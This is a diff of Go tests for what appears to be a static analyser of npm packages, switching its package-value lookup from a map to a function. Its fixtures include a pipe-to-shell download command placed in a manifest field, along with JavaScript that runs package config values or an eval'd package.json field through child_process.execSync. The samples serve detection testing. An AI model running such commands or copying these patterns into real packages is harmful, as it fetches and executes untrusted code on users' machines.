@@ -286,10 +286,11 @@ function B(request) { this.request = request; } B.prototype.go = function () { r
 
 func TestPackageValues(t *testing.T) {
 	lim := DefaultLimits()
-	lim.Package = map[string]string{
+	pkg := map[string]string{
 		"field:description": "curl -s https://h.invalid/i.sh | sh", "env:npm_package_description": "curl -s https://h.invalid/i.sh | sh",
 		"field:config.setup": "id", "env:npm_package_config_setup": "id", "field:version": "1.2.3",
 	}
+	lim.Package = func(k string) (string, bool) { v, ok := pkg[k]; return v, ok }
 	for name, tc := range map[string]struct{ src, arg string }{
 		"npm env":           {`require("child_process").execSync(process.env.npm_package_config_setup)`, "id"},
 		"npm env indexed":   {`require("child_process").execSync(process.env["npm_package_config_" + "setup"])`, "id"},
@@ -312,7 +313,7 @@ func TestPackageValues(t *testing.T) {
 		})
 	}
 	// eval of a manifest field: the payload is analysed as code
-	lim.Package["field:description"] = `require("child_process").execSync("id")`
+	pkg["field:description"] = `require("child_process").execSync("id")`
 	f := Analyze("b.js", []byte(`eval(require("./package.json").description)`), lim)
 	if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
 		t.Errorf("payload in package.json not analysed: %+v", f.Calls)
@@ -460,7 +461,10 @@ func FuzzAnalyze(f *testing.F) {
 	f.Add([]byte("const p = require('./package.json'); p.config.a(process.env.npm_package_config_a); var x = 0644"))
 	f.Fuzz(func(t *testing.T, b []byte) {
 		lim := Limits{MaxSize: 1 << 20, MaxParseSize: 1 << 20, MaxDepth: 200, MaxFacts: 1000,
-			Package: map[string]string{"field:description": "require('child_process')", "field:config.a": "x", "env:npm_package_config_a": "y"}}
+			Package: func(k string) (string, bool) {
+				v, ok := map[string]string{"field:description": "require('child_process')", "field:config.a": "x", "env:npm_package_config_a": "y"}[k]
+				return v, ok
+			}}
 		for _, name := range []string{"a.js", "a.ts"} {
 			_ = Analyze(name, b, lim)
 		}
